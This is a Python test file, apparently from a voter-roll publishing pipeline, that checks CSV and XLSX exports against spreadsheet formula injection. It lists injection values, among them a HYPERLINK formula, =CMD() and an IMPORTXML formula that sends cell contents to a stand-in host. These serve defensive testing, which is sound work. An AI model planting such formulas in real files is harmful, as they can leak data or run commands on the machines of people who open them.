"""Published files are safe to open in a spreadsheet: text never becomes a formula (OWASP).

A DPT name or address typed (or planted) as ``=HYPERLINK(...)``, ``@SUM(...)`` or ``-2+3`` would
run as a formula when an officer opens the CSV in Excel. In the CSV such a value is written with a
leading single quote; in the XLSX it is an inline string cell, which is never a formula, so it
shows as typed. Numbers we write (ages, probabilities, counts) stay numbers.
"""

from __future__ import annotations

import csv
import io
import zipfile

import numpy as np
import pandas as pd
from openpyxl import load_workbook

from pdpb_pipeline.output import publish, xlsx
from pdpb_pipeline.output.fastio import formula_safe, write_csv

from .test_publish_speed_safe import _publish, _roll

HOSTILE = ['=HYPERLINK("http://x","klik")', "@SUM(1+1)", "-2+3", "+62 812 3456", "\tTAB", "\rCR", "=1+1;=2",
           "ANI;=CMD()"]


def test_formula_safe_prefixes_exactly_the_dangerous_values():
    plain = ["SITI AMINAH", "", "JL. RAYA NO. 1", "O'NEIL", "A-B", "A=B", "1+1", "'=quoted already", "é=x"]
    assert formula_safe(plain) is plain  # nothing to do: the list itself comes back
    assert formula_safe(HOSTILE + plain) == [
        '\'=HYPERLINK("http://x","klik")', "'@SUM(1+1)", "'-2+3", "'+62 812 3456", "'\tTAB", "'\rCR",
        "'=1+1;'=2", "ANI;'=CMD()"] + plain
    assert formula_safe([]) == [] and formula_safe([""]) == [""] and formula_safe(["-"]) == ["'-"]


def test_csv_text_columns_are_neutralised_numbers_are_not():
    assert publish._text(pd.Series(["=A1", "B"], dtype=object)) == ["'=A1", "B"]
    assert publish._text(pd.Series(["-x", None], dtype=object)) == ["'-x", ""]
    assert publish._text(pd.Series(pd.array([-4, None, 17], dtype="Int64"))) == ["-4", "", "17"]
    assert publish._text(pd.Series([-0.5, np.nan, 0.25])) == ["-0.5", "", "0.25"]
    assert publish._text(pd.Series(np.array([-3, 2]))) == ["-3", "2"]
    assert publish._text(pd.Series(["-x", -1, None, 0.5], dtype=object)) == ["'-x", "-1", "", "0.5"]
    assert publish._text(pd.Series(["@a", "b"], dtype="category")) == ["'@a", "b"]


def test_write_csv_quotes_neutralised_fields_like_any_other(tmp_path):
    values = formula_safe(HOSTILE)
    write_csv(tmp_path / "x.csv", {"nama": values, "usia": np.array([17, 18, 19, 20, 21, 22, 23, 24])})
    text = (tmp_path / "x.csv").read_bytes().decode("utf-8")
    assert '"\'=HYPERLINK(""http://x"",""klik"")",17\n' in text
    assert "'@SUM(1+1),18\n" in text and '"\'\rCR",22\n' in text
    assert [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:] == values


def test_hostile_names_are_text_in_the_published_csv_and_xlsx(tmp_path):
    roll = _roll(300)
    hostile = roll.index[:len(HOSTILE)]
    roll.loc[hostile, "nama"] = HOSTILE
    roll.loc[hostile, "alamat"] = "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")"
    roll.loc[hostile, "tanggal_lahir"] = pd.Timestamp("1990-01-01")
    _publish(tmp_path, roll)
    ids = set(roll.loc[hostile, "id"])

    published = pd.concat([pd.read_csv(p, dtype=str, keep_default_na=False)
                           for p in sorted((tmp_path / "dpb").glob("*.csv"))])
    mine = published[published["id"].isin(ids)].set_index("id")
    expected = dict(zip(roll.loc[hostile, "id"], formula_safe(HOSTILE)))
    assert mine["nama"].to_dict() == expected
    assert (mine["alamat"] == "'=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")").all()
    assert mine["usia"].str.fullmatch(r"\d+").all()  # ages stay numbers
    for value in published["nama"].tolist() + published["alamat"].tolist():  # no cell starts a formula
        assert value[:1] not in "=+-@\t\r" or value == "", value

    # The XLSX keeps the names as typed, as string cells: no formula anywhere.
    originals = dict(zip(roll.loc[hostile, "id"], HOSTILE))
    found = {}
    for path in sorted((tmp_path / "dpb").glob("*.xlsx")):
        with zipfile.ZipFile(path) as book:
            assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")
        sheet = load_workbook(path).worksheets[0]
        for row in sheet.iter_rows(min_row=6):
            if row[0].value in originals:
                assert row[3].data_type == "s" and row[5].data_type == "n"
                found[row[0].value] = row[3].value
    # openpyxl reads a lone carriage return back as a line break (XML normalises line ends)
    assert found == {k: v.replace("\r", "\n") for k, v in originals.items()}


def test_xlsx_writes_formula_like_text_as_text(tmp_path):
    frame = pd.DataFrame({"nama": HOSTILE, "usia": range(len(HOSTILE))})
    rows = frame.astype(object).values.tolist()  # the mixed-value path (agency files)
    xlsx.write_workbook(tmp_path / "b.xlsx", [xlsx.Sheet("F", ["nama", "usia"], frame, ["=TITLE()"]),
                                              xlsx.Sheet("R", ["=nama", "usia"], rows)])
    with zipfile.ZipFile(tmp_path / "b.xlsx") as book:
        assert not any(b"<f" in book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/"))
    framed, listed = load_workbook(tmp_path / "b.xlsx").worksheets
    assert framed["A1"].value == "=TITLE()" and framed["A1"].data_type == "s"
    assert listed["A1"].value == "=nama" and listed["A1"].data_type == "s"
    for sheet, first in ((framed, 4), (listed, 2)):
        cells = [sheet.cell(row=first + i, column=1) for i in range(len(HOSTILE))]
        assert [c.data_type for c in cells] == ["s"] * len(HOSTILE)
        assert [c.value for c in cells] == [v.replace("\r", "\n") for v in HOSTILE]
